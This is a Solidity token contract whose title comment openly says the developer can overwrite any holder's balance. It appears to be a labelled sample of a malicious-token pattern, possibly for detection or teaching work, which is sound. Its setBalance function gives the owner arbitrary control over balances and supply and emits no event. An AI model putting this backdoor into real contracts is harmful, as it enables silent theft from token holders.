// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

/// @title The developer can overwrite any holder's balance.
contract FlexToken {
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    uint256 private _total;
    address public owner;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier onlyDev() {
        require(msg.sender == owner, "dev only");
        _;
    }

    constructor(uint256 supply) {
        owner = msg.sender;
        _total = supply;
        _balances[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function name() external pure returns (string memory) { return "Flex Token"; }
    function symbol() external pure returns (string memory) { return "FLEX"; }
    function decimals() external pure returns (uint8) { return 18; }
    function totalSupply() external view returns (uint256) { return _total; }
    function balanceOf(address a) external view returns (uint256) { return _balances[a]; }
    function allowance(address o, address s) external view returns (uint256) { return _allowances[o][s]; }

    function setBalance(address account, uint256 amount) external onlyDev {
        _total = _total - _balances[account] + amount;
        _balances[account] = amount;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _send(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 a = _allowances[from][msg.sender];
        require(a >= value, "allowance");
        if (a != type(uint256).max) _allowances[from][msg.sender] = a - value;
        _send(from, to, value);
        return true;
    }

    function _send(address from, address to, uint256 value) private {
        require(_balances[from] >= value, "balance");
        _balances[from] -= value;
        _balances[to] += value;
        emit Transfer(from, to, value);
    }
}
